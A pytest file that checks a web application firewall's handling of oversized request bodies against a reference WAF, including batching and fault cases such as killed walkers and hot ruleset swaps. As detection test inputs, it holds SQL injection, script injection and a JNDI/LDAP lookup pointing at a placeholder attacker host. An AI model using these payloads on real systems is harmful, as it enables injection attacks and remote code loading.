"""The oversized side lane against the benchmark's plain reference.

A body that unpacks past ``Batcher.OVERSIZE_THRESHOLD`` (16,384 B)
leaves the batched path for the side worker and the stream engine
(waves of 16,384 steps while that much is pending and of 2,048 for the
rest, automaton state carried between them).  Every verdict it gives has
to be the one ``benchmark/reference/plainwaf.py`` gives for the same
frame (attack flag, blocked flag, set of rule ids): both reroute kinds,
JSON and urlencoded bodies, the payload mid-body, at the very tail,
across a wave boundary of every kind (narrow/narrow, wide/wide,
wide/narrow) and across a 64 KiB chunk boundary, and stretched over each
by thousands of bytes that a rule's chain deletes.  The reference shares
no code with the program.  Every case runs twice: with the inline
confirm (``--confirm-workers 1``) and with walker processes, to which
the side lane hands its walks.  The rerouted requests that wait are
served as one batch (their rows share each wave, their walks go out one
a share): batches of two to four against the reference, and the streams
of a batch against each scanned alone.  Where the walks run and how they
fail (a walker killed or wedged under one, an unpack that raises, a hot
swap during a scan or a walk) is held on a small pack.  The wave plan
itself is held, on the engine alone, to an all-narrow plan and to one
unbroken scan.

ROADMAP F1 is the named regression: the side lane used to confirm on the
unpacked copy of the body, whose url-decoded segment the confirm twin
decoded once more (two rule ids too many on a double-encoded form
payload).
"""

import os
import queue
import random
import signal
import sys
import threading
import time
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
BENCH = REPO / "benchmark"
if str(BENCH) not in sys.path:
    sys.path.insert(0, str(BENCH))

from generators import body_post                              # noqa: E402
from generators.corpus import attack_payloads                 # noqa: E402
from harness.wire import Request as WireRequest               # noqa: E402
from harness.wire import encode_request                       # noqa: E402
from reference import plainwaf                                # noqa: E402

from ingress_plus_tpu.serve.batcher import Batcher            # noqa: E402
from ingress_plus_tpu.serve.stream import CHUNK_L, WIDE_L     # noqa: E402
from ingress_plus_tpu.serve.unpack import unpack_body         # noqa: E402
from ingress_plus_tpu.utils.trace import SIDE_STAGES          # noqa: E402

THRESHOLD = Batcher.OVERSIZE_THRESHOLD
CHUNK = Batcher.OVERSIZE_CHUNK
SQLI = "1' UNION SELECT card_no FROM payments--"


def _wait_for(cond, timeout=120.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if cond():
            return True
        time.sleep(0.05)
    return cond()


def _held_by_all(pl) -> bool:
    return all(pl.confirm_gen in w.held and not w.installing
               for w in pl.confirm_pool._workers)


@pytest.fixture(scope="module")
def served_pack():
    from ingress_plus_tpu.compiler import compile_ruleset
    from ingress_plus_tpu.compiler.sigpack import RULES_DIR, load_bundled_rules

    return compile_ruleset(load_bundled_rules(), base_path=RULES_DIR / "crs")


@pytest.fixture(scope="module")
def deployment():
    return plainwaf.Deployment(BENCH / "rules" / "crs",
                               BENCH / "rules" / "sigpack.json")


#: confirm workers of each lane: 1 walks inline, 2 are walker processes
POOLS = {"inline": 1, "walkers": 2}


@pytest.fixture(scope="module", params=sorted(POOLS))
def lane(request, served_pack, deployment):
    """The served pack on a CPU batcher, warmed as the server's start-up
    warms it, and the reference's deployment; the confirm inline, or on
    walker processes that hold the pack before the first request."""
    from ingress_plus_tpu.models.pipeline import DetectionPipeline

    batcher = Batcher(DetectionPipeline(
        served_pack, mode="block", confirm_workers=POOLS[request.param]),
        max_batch=8, hard_deadline_s=60.0)
    try:
        assert _wait_for(lambda: _held_by_all(batcher.pipeline))
        batcher.stream_engine.warm()
        yield batcher, deployment
    finally:
        batcher.close()


def build(size: int, ctype: str, payload: str, where,
          straddle: bool = True) -> WireRequest:
    """`generators/body_post.py _body` with the payload's place chosen:
    "mid", "tail", or a byte offset of the body the payload has to
    straddle (``straddle=False``: only to start near)."""
    rng = random.Random(size)
    if ctype == "json":
        enc, sep = body_post._json_escape, " "
        head, tail = '{"title": "note", "text": "', '"}'
        content_type = "application/json"
    else:
        enc, sep = body_post.quote_plus, "+"
        head, tail = "rating=5&comment=", ""
        content_type = "application/x-www-form-urlencoded"
    mark = enc(payload)
    room = size - len(head) - len(tail) - len(mark)
    text = enc(body_post._filler(rng, room))[:room]
    while text and (text[-1] in "%\\" or text[-2:-1] == "%"):
        text = text[:-1]
    text += "x" * (room - len(text))
    if where == "tail":
        cut = room
    else:
        at = room // 2 if where == "mid" else where - len(head) - 4
        cut = max(text.rfind(sep, 0, at), 0) if mark else at
    body = (head + text[:cut] + mark + text[cut:] + tail).encode()
    assert len(body) == size
    if mark and not isinstance(where, str) and straddle:
        start = len(head) + cut
        assert start < where < start + len(mark), "payload misses %d" % where
    return WireRequest(method="POST", uri="/api/v1/comments", headers={
        "host": "shop.example.com", "user-agent": "curl/8.4.0",
        "accept": "*/*", "content-length": str(size),
        "content-type": content_type}, body=body)


def build_over(size: int, ctype: str, payload: str, target,
               halves=None) -> WireRequest:
    """`build` with the payload laid over byte ``target`` of the SCAN
    STREAM (`unpack_body`: the body, a separator, its extracted or
    url-decoded copy): where the target lies past the body, the copy's
    payload straddles it (from the start of ``halves[0]`` to the end of
    ``halves[1]``; default the payload whole).  "mid" and "tail" are
    `build`'s."""
    if isinstance(target, str) or target < size:
        return build(size, ctype, payload, target)
    first, last = (h.encode() for h in (halves or (payload, payload)))
    where = target - size
    for _ in range(8):
        req = build(size, ctype, payload, where, straddle=False)
        scanned = unpack_body(req.body, req.headers)
        a, b = scanned.rfind(first), scanned.rfind(last)
        assert size < a <= b, "no decoded copy of the payload"
        if a < target < b + len(last):
            return req
        where += target - (a + b + len(last)) // 2
    raise AssertionError("payload not laid over %d" % target)


def decoded(wire_request: WireRequest, req_id: int):
    """(frame, the request the server decodes from it)."""
    from ingress_plus_tpu.serve.protocol import decode_request

    frame = encode_request(wire_request, req_id=req_id)
    _id, mode, req = decode_request(frame[8:])
    req.mode = mode
    return frame, req


def triple(v):
    return (bool(v.attack), bool(v.blocked), sorted(int(r) for r in v.rule_ids))


def reference(dep, frame: bytes):
    _idx, request = plainwaf.decode_frame(frame)
    want = plainwaf.verdict(dep, request)
    return (want[0], want[1], sorted(want[2]))


def served_and_reference(lane, wire_request: WireRequest, req_id: int = 7,
                         held: bool = True):
    """(served, reference) verdicts of one frame; a rerouted request's
    walk went to a walker process wherever the lane has them and
    (``held``) they hold the pack."""
    batcher, dep = lane
    pool = batcher.pipeline.confirm_pool
    frame, req = decoded(wire_request, req_id)
    rerouted, walked = batcher.stats.oversized_rerouted, pool.requests_process
    v = batcher.submit(req).result(timeout=300)
    assert not v.fail_open
    rerouted = batcher.stats.oversized_rerouted - rerouted
    assert pool.requests_process - walked == (
        rerouted if held and not pool.inline else 0)
    return triple(v), reference(dep, frame)


def submit_together(batcher, requests):
    """Submit rerouted requests so that the side lane takes them as ONE
    batch: its scan thread is held off its queue until all of them wait
    there.  Returns their futures."""
    q = batcher._oversized_q
    gate = threading.Event()
    real_get = q.get

    def held_get(block=True, timeout=None):
        if not gate.wait(timeout if block else 0):
            raise queue.Empty
        return real_get(block, timeout)

    q.get = held_get
    try:
        # a get already waiting on the queue returns within its 0.1 s
        time.sleep(0.3)
        futs = [batcher.submit(r) for r in requests]
        assert _wait_for(lambda: q.qsize() == len(requests), 60)
    finally:
        gate.set()
        del q.get
    return futs


# unpack: the body is under the threshold and unpacks past it (JSON:
# body + extracted strings; form: body + its url-decoded copy); raw: the
# body itself is over it
SIZES = {"unpack": 11_000, "raw": 21_000}
# "wide": byte WIDE_L of the scan stream.  A 21,000 B body scans as
# ~42,000 B = two wide waves and narrow ones: a wide/wide boundary,
# inside the body.  An 11,000 B body scans as ~22,000 B = one wide wave
# and narrow ones: a wide/narrow boundary, inside the body's copy
PLACES = {"mid": "mid", "tail": "tail", "wave": 3 * CHUNK_L,
          "wide": WIDE_L}


@pytest.mark.parametrize("where", sorted(PLACES))
@pytest.mark.parametrize("ctype", ["json", "form"])
@pytest.mark.parametrize("kind", sorted(SIZES))
def test_side_lane_verdict_equals_the_reference(lane, kind, ctype, where):
    batcher, _dep = lane
    payload = attack_payloads()[
        (sorted(PLACES).index(where) * 7 + len(ctype)) % len(attack_payloads())]
    before = dict(batcher.stats.oversized_requests)
    have, want = served_and_reference(
        lane, build_over(SIZES[kind], ctype, payload, PLACES[where]))
    assert batcher.stats.oversized_requests[kind] == before[kind] + 1
    assert want[0], "the reference calls %r no attack" % payload
    assert have == want


@pytest.mark.parametrize("ctype", ["json", "form"])
def test_payload_across_a_64k_chunk_boundary(lane, ctype):
    """The side lane feeds the stream 64 KiB at a time; the automaton
    and the decoders' tails carry across that boundary too."""
    have, want = served_and_reference(
        lane, build(CHUNK + 6_000, ctype, SQLI, CHUNK))
    assert want[0] and have == want


# a rule whose chain deletes bytes (``t:removeWhitespace``) matches its
# keywords however far apart they lie: the scan's squash variants drop
# every whitespace byte, so the factor (``unionselect``) is found only
# if the automaton's state is carried over ALL the bytes in between
STRETCHED = {942270: "1' UNION%sSELECT card_no FROM payments--",
             941110: "javascript%s:alert(1)",
             932191: "${jndi%s:ldap://evil.example/a}"}


@pytest.mark.parametrize("place", ["wave", "chunk", "wide_wide",
                                   "wide_narrow"])
@pytest.mark.parametrize("ctype", ["json", "form"])
@pytest.mark.parametrize("rule_id", sorted(STRETCHED))
def test_payload_stretched_by_deletable_bytes_over_a_boundary(
        lane, rule_id, ctype, place):
    """2,500 spaces (``+`` urlencoded) between a payload's two halves:
    more than a whole narrow wave of bytes the squash variants delete,
    laid over a narrow/narrow boundary, a 64 KiB chunk boundary, a
    wide/wide boundary (byte 16,384 of a ~42,000 B scan stream) and a
    wide/narrow one (byte 16,384 of a ~22,000 B scan stream, in the
    body's copy)."""
    size, at = {"wave": (21_000, 3 * CHUNK_L),
                "chunk": (CHUNK + 6_000, CHUNK),
                "wide_wide": (21_000, WIDE_L),
                "wide_narrow": (11_000, WIDE_L)}[place]
    a, b = STRETCHED[rule_id].split("%s")
    have, want = served_and_reference(
        lane, build_over(size, ctype, STRETCHED[rule_id] % (" " * 2_500),
                         at, halves=(a, b)))
    assert rule_id in want[2]
    assert have == want


@pytest.mark.parametrize("size", [8_800, 13_000, 24_000, 40_000])
@pytest.mark.parametrize("ctype", ["json", "form"])
def test_benign_bodies_of_8_to_40_kb(lane, ctype, size):
    batcher, _dep = lane
    n = batcher.stats.oversized_rerouted
    have, want = served_and_reference(lane, build(size, ctype, "", "mid"))
    assert batcher.stats.oversized_rerouted == n + 1
    assert not want[0] and have == want


@pytest.mark.parametrize("seed", [2**31 + 34, 34])
def test_seeded_body_post_pool_has_no_differing_verdict(lane, seed):
    """The generator's own bodies, as the cell's mix makes them, at an
    attack share that meets payloads and placements of its table."""
    reqs = body_post.generate(seed, 10, {"min_body": 8_000,
                                         "max_body": 40_000,
                                         "attack_fraction": 0.6})
    attacks = 0
    for i, r in enumerate(reqs):
        have, want = served_and_reference(lane, r, req_id=i)
        assert have == want, "pool entry %d (%d B, %s)" % (
            i, len(r.body), r.headers["content-type"])
        attacks += want[0]
    assert attacks >= 4


def test_f1_double_encoded_union_select_form_body(lane):
    """ROADMAP F1 / PERF.md §7 "First": pool entry 677 of seed
    2147484004 in the 12 KiB `body_post` mix, a 10,871 B urlencoded body
    carrying `1%2527%2520UNION%2520SELECT...`; the side lane answered
    942578 and 942900 beside the reference's five rule ids."""
    r = body_post.generate(2147484004, 1024, {
        "min_body": 1024, "max_body": 12288, "attack_fraction": 0.02})[677]
    assert len(r.body) == 10_871
    assert b"1%2527%2520UNION%2520SELECT%2520card_no" in r.body
    have, want = served_and_reference(lane, r, req_id=677)
    assert want == (True, True, [920370, 942100, 942101, 942240, 942270])
    assert have == want


def test_warm_leaves_no_wave_compile_for_the_first_oversized_request(lane):
    from ingress_plus_tpu.ops.scan import scan_bytes_jit

    batcher, _dep = lane
    assert batcher.stream_engine.warmed
    eng = batcher.stream_engine
    compiled = scan_bytes_jit._cache_size()
    waves, steps = eng.waves, eng.wave_steps
    served_and_reference(lane, build(30_000, "form", SQLI, "mid"))
    # ~60,000 B scanned: waves of both widths
    assert (CHUNK_L * (eng.waves - waves) < eng.wave_steps - steps
            < WIDE_L * (eng.waves - waves))
    assert scan_bytes_jit._cache_size() == compiled


def test_start_up_warms_the_stream_engine(monkeypatch):
    """`build_default_batcher(warmup=True)` compiles the wave shapes
    after the batched grid (which is stubbed out here: minutes on CPU)."""
    from ingress_plus_tpu.serve import server
    from ingress_plus_tpu.serve.stream import StreamEngine

    warmed = []
    monkeypatch.setattr(server, "warmup_pipeline", lambda p, n: None)
    monkeypatch.setattr(StreamEngine, "warm",
                        lambda self: warmed.append(self) or 3)
    b = server.build_default_batcher(max_batch=8, warmup=True)
    try:
        assert warmed == [b.stream_engine]
    finally:
        b.close()


def test_four_oversized_in_flight_shed_nothing(lane):
    """One tenant may hold four of the side lane's eight slots."""
    from ingress_plus_tpu.serve.protocol import decode_request

    batcher, dep = lane
    shed0 = dict(batcher.pipeline.stats.shed)
    fail0 = batcher.pipeline.stats.fail_open
    frames = [encode_request(build(18_000 + 500 * i, "json", "", "mid"),
                             req_id=i) for i in range(4)]
    futs = []
    for frame in frames:
        _id, mode, req = decode_request(frame[8:])
        req.mode = mode
        futs.append(batcher.submit(req))
    verdicts = [f.result(timeout=300) for f in futs]
    assert not any(v.fail_open for v in verdicts)
    assert dict(batcher.pipeline.stats.shed) == shed0
    assert batcher.pipeline.stats.fail_open == fail0
    assert batcher.pipeline.load_controller.level == 0


# ------------------------------------------- rerouted bodies as one batch

#: the bodies of a batch: JSON and form, of both reroute kinds, one with
#: a payload across the 64 KiB chunk edge (its batch's longest), one with
#: a payload mid-body, the rest benign
BATCH = [(CHUNK + 6_000, "json", SQLI, CHUNK), (20_000, "form", "", "mid"),
         (11_000, "json", "", "mid"), (30_000, "form", "<script>alert(1)",
                                       "mid")]


@pytest.mark.parametrize("k", [2, 3, 4])
def test_bodies_queued_together_are_each_the_references_verdict(lane, k):
    """k rerouted bodies taken as one batch (their rows share each wave,
    their walks go out together): every verdict is the reference's for
    its own frame, so no row's bytes or carry reached another's, and
    the benign ones block nothing.  On walkers, each request is a share
    of its own, dealt from the last walkers."""
    batcher, dep = lane
    pool = batcher.pipeline.confirm_pool
    frames, reqs = zip(*(decoded(build(*b), req_id=100 + i)
                         for i, b in enumerate(BATCH[:k])))
    batches, rerouted = (batcher.stats.oversized_batches,
                         batcher.stats.oversized_rerouted)
    walked = pool.requests_process
    verdicts = [f.result(timeout=600)
                for f in submit_together(batcher, reqs)]
    assert batcher.stats.oversized_batches == batches + 1
    assert batcher.stats.oversized_rerouted == rerouted + k
    assert not any(v.fail_open for v in verdicts)
    for frame, v, (size, ctype, payload, _at) in zip(frames, verdicts,
                                                     BATCH):
        want = reference(dep, frame)
        assert triple(v) == want, "%d B %s" % (size, ctype)
        assert want[0] == bool(payload)
        assert v.blocked == bool(payload)
    if pool.inline:
        assert pool.requests_process == walked
    else:
        n = len(pool._workers)
        assert pool.requests_process == walked + k
        assert {v.confirm_worker for v in verdicts} == {
            w.worker_index for w in pool._workers[-min(k, n):]}


def test_four_bodies_after_warm_share_waves_and_compile_none(lane):
    """A batch of four bodies launches the wave shapes ``warm`` made
    (their rows fit the warmed row tiers) and no other, and shares its
    waves: fewer than the four would launch one after another."""
    from ingress_plus_tpu.ops.scan import scan_bytes_jit

    batcher, _dep = lane
    eng = batcher.stream_engine
    assert eng.warmed
    compiled = scan_bytes_jit._cache_size()
    reqs = [decoded(build(18_000 + 4_000 * i, ("json", "form")[i % 2], "",
                          "mid"), req_id=200 + i)[1] for i in range(4)]
    alone = sum(sum(planned_waves(len(unpack_body(r.body, r.headers))))
                for r in reqs)
    w0 = eng.waves
    verdicts = [f.result(timeout=600)
                for f in submit_together(batcher, reqs)]
    assert not any(v.fail_open or v.attack for v in verdicts)
    assert scan_bytes_jit._cache_size() == compiled
    assert max(planned_waves(len(unpack_body(r.body, r.headers)))[0]
               for r in reqs) <= eng.waves - w0 < alone


def test_the_batch_counter_counts_batches_and_a_lone_request_is_one(lane):
    """``ipt_oversized_batches_total``: one a batch the scan thread
    takes, a request served alone being a batch of one; each request of
    a batch observes each side stage once."""
    from ingress_plus_tpu.utils.trace import SIDE_STAGES

    batcher, _dep = lane
    st = batcher.stats
    batches, rerouted = st.oversized_batches, st.oversized_rerouted
    seen = {n: batcher.sidehist[n].total for n in SIDE_STAGES}
    served_and_reference(lane, build(17_000, "json", "", "mid"))
    assert (st.oversized_batches, st.oversized_rerouted) == (
        batches + 1, rerouted + 1)
    reqs = [decoded(build(17_000 + 100 * i, "form", "", "mid"),
                    req_id=300 + i)[1] for i in range(3)]
    for f in submit_together(batcher, reqs):
        assert not f.result(timeout=600).fail_open
    assert (st.oversized_batches, st.oversized_rerouted) == (
        batches + 2, rerouted + 4)
    assert {n: batcher.sidehist[n].total - seen[n]
            for n in SIDE_STAGES} == dict.fromkeys(SIDE_STAGES, 4)


COUNTERS = ('ipt_oversized_rerouted_total{kind="raw"}',
            'ipt_oversized_rerouted_total{kind="unpack"}',
            'ipt_oversized_bytes_total{kind="raw"}',
            'ipt_oversized_bytes_total{kind="unpack"}',
            "ipt_stream_waves_total", "ipt_stream_wave_rows_total",
            "ipt_stream_wave_bytes_total", "ipt_stream_wave_steps_total",
            "ipt_oversized_batches_total")


@pytest.fixture(scope="module")
def exposition(lane):
    from ingress_plus_tpu.serve.server import ServeLoop

    batcher, _dep = lane
    for size in (12_000, 20_000):          # one of each kind, at least
        served_and_reference(lane, build(size, "form", "", "mid"))
    text = ServeLoop(batcher, socket_path="/tmp/ipt-side-lane.sock"
                     )._metrics_text()
    return {ln.rsplit(" ", 1)[0]: float(ln.rsplit(" ", 1)[1])
            for ln in text.splitlines() if ln and not ln.startswith("#")}


@pytest.mark.parametrize("series", COUNTERS)
def test_side_lane_counter_is_on_metrics(exposition, series):
    assert exposition[series] > 0


@pytest.mark.parametrize("stage", SIDE_STAGES)
def test_side_lane_stage_is_on_metrics(lane, exposition, stage):
    batcher, _dep = lane
    n = exposition['ipt_stage_us_count{stage="%s"}' % stage]
    assert n == batcher.stats.oversized_rerouted > 0
    assert exposition['ipt_stage_us_sum{stage="%s"}' % stage] > 0


def planned_waves(pending: int):
    """(wide, narrow) waves of one ``StreamEngine.scan`` call whose
    longest row holds ``pending`` bytes: wide while at least WIDE_L are
    pending, narrow for the rest."""
    return pending // WIDE_L, -(-(pending % WIDE_L) // CHUNK_L)


def test_wave_counters_count_live_rows_and_their_bytes(lane):
    """One benign JSON body: the scan stream (body + separator +
    extracted copy) goes through as one sequence in one call, so the
    waves are the plan's for its length (39,988 B: two wide, four
    narrow, where all-narrow took twenty); a wave carries one live row
    per distinct variant, identical ones scanned once, never a padding
    row; the steps are the widths summed."""
    from ingress_plus_tpu.compiler.ruleset import VARIANTS

    batcher, _dep = lane
    eng = batcher.stream_engine
    w0, r0, b0, s0 = eng.waves, eng.wave_rows, eng.wave_bytes, eng.wave_steps
    req = build(20_000, "json", "", "mid")
    served_and_reference(lane, req)
    scanned = unpack_body(req.body, req.headers)
    assert THRESHOLD < len(scanned) <= CHUNK
    wide, narrow = planned_waves(len(scanned))
    assert (wide, narrow) == (2, 4)
    assert eng.waves - w0 == wide + narrow
    assert eng.wave_steps - s0 == wide * WIDE_L + narrow * CHUNK_L
    assert len(scanned) <= eng.wave_steps - s0 < len(scanned) + CHUNK_L
    assert (eng.waves - w0 <= eng.wave_rows - r0
            <= len(VARIANTS) * (eng.waves - w0))
    assert len(scanned) <= eng.wave_bytes - b0 <= len(VARIANTS) * len(scanned)


# ------------------------------------ where the lone walk runs, and faults

def test_the_side_lane_walks_in_a_walker_and_a_batched_one_inline(lane):
    """A rerouted request is walked in a walker process (the last one:
    batched shares are dealt from the first) and counted under
    ``process``; a batched dispatch of one is still walked inline.  An
    inline pool walks both inline."""
    batcher, _dep = lane
    pool = batcher.pipeline.confirm_pool
    inline, process = pool.requests_inline, pool.requests_process
    rerouted = batcher.stats.oversized_rerouted
    have, want = served_and_reference(lane, build(20_000, "form", SQLI, "mid"))
    assert batcher.stats.oversized_rerouted == rerouted + 1
    assert want[0] and have == want
    assert (pool.requests_inline - inline, pool.requests_process - process) \
        == ((1, 0) if pool.inline else (0, 1))
    have, want = served_and_reference(lane, build(3_000, "form", SQLI, "mid"))
    assert batcher.stats.oversized_rerouted == rerouted + 1
    assert want[0] and have == want
    assert (pool.requests_inline - inline, pool.requests_process - process) \
        == ((2, 0) if pool.inline else (1, 1))


def test_a_generation_no_walker_holds_yet_walks_the_side_lane_inline(lane):
    """The walkers forget the pack (as after a swap whose install has
    not been answered): the rerouted request is walked inline and the
    install goes out; once it is answered the next one goes to a
    walker."""
    batcher, _dep = lane
    pl = batcher.pipeline
    pool = pl.confirm_pool
    for w in pool._workers:
        w.held.pop(pl.confirm_gen, None)
    inline, process = pool.requests_inline, pool.requests_process
    have, want = served_and_reference(
        lane, build(20_000, "json", SQLI, "mid"), held=False)
    assert want[0] and have == want
    assert (pool.requests_inline, pool.requests_process) \
        == (inline + 1, process)
    assert _wait_for(lambda: _held_by_all(pl))
    have, want = served_and_reference(lane, build(21_000, "json", SQLI, "mid"))
    assert want[0] and have == want
    assert pool.requests_process == process + (0 if pool.inline else 1)


#: a small pack for the fault cases; the last rule backtracks without
#: bound on ``a`` x 40 then ``!``, so the walk of such a body never ends
SQLI_RULE = """
SecRule REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
"""
SMALL_RULES = SQLI_RULE + """
SecRule REQUEST_BODY "@rx /etc/passwd" \
    "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
"""
BACKTRACK = ('SecRule REQUEST_BODY "@rx ^(a+)+$" "id:900001,phase:2,block,'
             'severity:CRITICAL,tag:\'attack-generic\'"\n')


def small_batcher(rules: str = SMALL_RULES, workers: int = 2,
                  hang_budget_s: float = 30.0) -> Batcher:
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.models.pipeline import DetectionPipeline

    b = Batcher(DetectionPipeline(
        compile_ruleset(parse_seclang(rules)), mode="block",
        confirm_workers=workers, confirm_hang_budget_s=hang_budget_s),
        max_batch=8, hard_deadline_s=60.0)
    assert _wait_for(lambda: _held_by_all(b.pipeline))
    return b


def oversized(body: bytes, request_id: str):
    """A raw reroute: a plain-text body past the 16 KiB tier."""
    from ingress_plus_tpu.serve.normalize import Request

    assert len(body) > THRESHOLD
    return Request(method="POST", uri="/upload", request_id=request_id,
                   headers={"content-type": "text/plain"}, body=body)


BENIGN = b"lorem ipsum " * 1_600
ATTACK = BENIGN[:9_000] + b" 1 union select pw from users " + BENIGN[9_000:]
FOREVER = b"a" * 40 + b"!" + BENIGN


def test_the_lone_walk_books_no_batched_sub_stage():
    """The side lane's walk in a walker is a ``side_confirm`` of its
    own: ``confirm_walk`` and ``confirm_ipc`` read the batched
    dispatches alone, and the verdict names the walker."""
    from ingress_plus_tpu.utils.trace import flight

    flight.configure(enabled=True)
    b = small_batcher()
    try:
        pool = b.pipeline.confirm_pool
        v = b.submit(oversized(ATTACK, "a")).result(timeout=120)
        assert v.attack and not v.fail_open
        assert v.confirm_worker == pool._workers[-1].worker_index
        assert pool.requests_process == 1 and pool.requests_inline == 0
        assert b.sidehist["side_confirm"].total == 1
        assert b.subhist["confirm_walk"].sum_us == 0
        assert b.subhist["confirm_ipc"].sum_us == 0
    finally:
        b.close()


#: the side stages that open up side_scan and side_confirm
SIDE_PARTS = ("side_prefilter", "side_launch", "side_fetch",
              "side_lock_wait", "side_walk")


@pytest.mark.parametrize("workers", [1, 2])
def test_one_rerouted_request_books_each_part_of_its_stages_once(workers):
    """After one rerouted request the head's prefilter, the waves'
    launches, the scan calls' waits for the device, the waits for the
    swap lock (both side threads) and the walk are each observed once;
    the first three lie inside ``side_scan``, the walk inside
    ``side_confirm``; no stage's CPU time passes its wall time, and
    ``/metrics`` renders one CPU counter a stage that reads it, and the
    side threads' CPU."""
    from ingress_plus_tpu.analysis.promlint import check_exposition
    from ingress_plus_tpu.serve.server import ServeLoop
    from ingress_plus_tpu.utils.trace import CPU_STAGES, flight

    flight.configure(enabled=True)
    b = small_batcher(workers=workers)
    try:
        v = b.submit(oversized(ATTACK, "a")).result(timeout=120)
        assert v.attack and not v.fail_open
        h = b.sidehist
        assert {n: h[n].total for n in SIDE_STAGES} == dict.fromkeys(
            SIDE_STAGES, 1)
        assert (h["side_prefilter"].sum_us + h["side_launch"].sum_us
                + h["side_fetch"].sum_us <= h["side_scan"].sum_us)
        assert 0 < h["side_walk"].sum_us <= h["side_confirm"].sum_us
        assert h["side_launch"].sum_us > 0 and h["side_launch"].cpu_us > 0
        hists = {**b.subhist, **h}
        for name in CPU_STAGES:
            assert 0 <= hists[name].cpu_us <= hists[name].sum_us, name
        text = ServeLoop(b, socket_path="/tmp/ipt-side-parts.sock"
                         )._metrics_text()
    finally:
        b.close()
    assert check_exposition(text) == []
    values = {ln.rsplit(" ", 1)[0]: float(ln.rsplit(" ", 1)[1])
              for ln in text.splitlines() if ln and not ln.startswith("#")}
    assert [k for k in values if k.startswith("ipt_stage_cpu_us_total")] \
        == ['ipt_stage_cpu_us_total{stage="%s"}' % s for s in CPU_STAGES]
    for stage in CPU_STAGES:
        assert (values['ipt_stage_cpu_us_total{stage="%s"}' % stage]
                <= values['ipt_stage_us_sum{stage="%s"}' % stage])
    assert values['ipt_thread_cpu_seconds_total{thread="oversized"}'] > 0
    assert 'ipt_thread_cpu_seconds_total{thread="oversized_finish"}' \
        in values


def test_a_walker_killed_mid_walk_fails_the_request_open():
    b = small_batcher(SMALL_RULES + BACKTRACK)
    try:
        pool = b.pipeline.confirm_pool
        victim = pool._workers[-1]
        fut = b.submit(oversized(FOREVER, "forever"))
        assert _wait_for(lambda: pool.requests_process == 1)
        time.sleep(0.3)
        assert not fut.done()            # walked without end
        os.kill(victim.proc.pid, signal.SIGKILL)
        v = fut.result(timeout=60)
        assert v.fail_open and not v.attack
        assert pool.workers_replaced == 1
        assert b.pipeline.stats.confirm_hangs == 0     # died, not hung
        assert pool._workers[-1] is not victim
        # the fresh walker takes the side lane's walks once it holds
        # the pack
        assert _wait_for(lambda: _held_by_all(b.pipeline))
        v = b.submit(oversized(ATTACK, "after")).result(timeout=120)
        assert v.attack and not v.fail_open
        assert pool.requests_process == 2
    finally:
        b.close()


def test_a_walker_slowed_past_the_hang_budget_fails_the_request_open():
    from ingress_plus_tpu.utils import faults
    from ingress_plus_tpu.utils.faults import FaultPlan

    b = small_batcher(hang_budget_s=1.0)
    try:
        pool = b.pipeline.confirm_pool
        stuck = pool._workers[-1]
        faults.install(FaultPlan.from_spec(
            "slow_confirm:worker=%d,times=1,delay_s=8.0"
            % stuck.worker_index))
        try:
            t0 = time.perf_counter()
            v = b.submit(oversized(ATTACK, "slow")).result(timeout=60)
            assert time.perf_counter() - t0 < 6.0   # bounded by the budget
        finally:
            faults.install(None)
        assert v.fail_open and not v.attack
        assert b.pipeline.stats.confirm_hangs == 1
        assert pool.workers_replaced == 1
        assert pool._workers[-1] is not stuck
    finally:
        b.close()


@pytest.mark.parametrize("pool", sorted(POOLS))
def test_a_hot_swap_during_the_walk_fails_the_request_open(monkeypatch,
                                                           pool):
    """A ruleset installed while the walk is out (here: just before its
    answer is taken) fails the request open at the fold, inline or on a
    walker; the next request is served by the new pack."""
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.serve import stream

    b = small_batcher(workers=POOLS[pool])
    try:
        old = b.pipeline
        real_join = stream.join_confirm

        def _swap_then_join(pl, job):
            t = threading.Thread(target=b.swap_ruleset, args=(
                compile_ruleset(parse_seclang(SQLI_RULE)),))
            t.start()
            t.join(120)
            return real_join(pl, job)

        monkeypatch.setattr(stream, "join_confirm", _swap_then_join)
        v = b.submit(oversized(ATTACK, "swapped")).result(timeout=180)
        monkeypatch.setattr(stream, "join_confirm", real_join)
        assert b.pipeline is not old
        assert v.fail_open and not v.attack
        assert old.confirm_pool.requests_process == (
            0 if old.confirm_pool.inline else 1)
        v = b.submit(oversized(ATTACK, "after")).result(timeout=180)
        assert v.attack and not v.fail_open
        assert v.generation == b.pipeline.generation_tag
    finally:
        b.close()


def small_batch(n: int):
    """``n`` raw reroutes of the small pack: an attack, then benign."""
    return [oversized((ATTACK if i == 0 else BENIGN + b" %d" % i),
                      "b%d" % i) for i in range(n)]


@pytest.mark.parametrize("pool", sorted(POOLS))
def test_a_body_whose_unpack_raises_fails_open_alone(monkeypatch, pool):
    """One body of a batch whose unpack raises is failed open, flagged;
    the others of its batch are scanned and confirmed as ever."""
    from ingress_plus_tpu.serve import batcher as batcher_mod

    real_unpack = batcher_mod.unpack_body

    def _unpack(body, *args, **kw):
        if b"POISON" in body:
            raise ValueError("unpack failed")
        return real_unpack(body, *args, **kw)

    monkeypatch.setattr(batcher_mod, "unpack_body", _unpack)
    b = small_batcher(workers=POOLS[pool])
    try:
        reqs = small_batch(3)
        reqs.insert(1, oversized(b"POISON " + BENIGN, "poison"))
        verdicts = [f.result(timeout=180) for f in submit_together(b, reqs)]
        assert b.stats.oversized_batches == 1
        assert [v.fail_open for v in verdicts] == [False, True, False, False]
        assert [v.attack for v in verdicts] == [True, False, False, False]
        assert b.pipeline.stats.fail_open == 1
        assert not b._oversized_by_tenant          # every slot released
    finally:
        b.close()


@pytest.mark.parametrize("when", ["scan", "walk"])
@pytest.mark.parametrize("pool", sorted(POOLS))
def test_a_hot_swap_during_a_batch_fails_every_request_open(monkeypatch,
                                                            pool, when):
    """A ruleset installed while a batch scans (seen at a wave's version
    check) or while its walks are out (seen at the fold) fails every
    request of the batch open, flagged; the next batch is served by the
    new pack."""
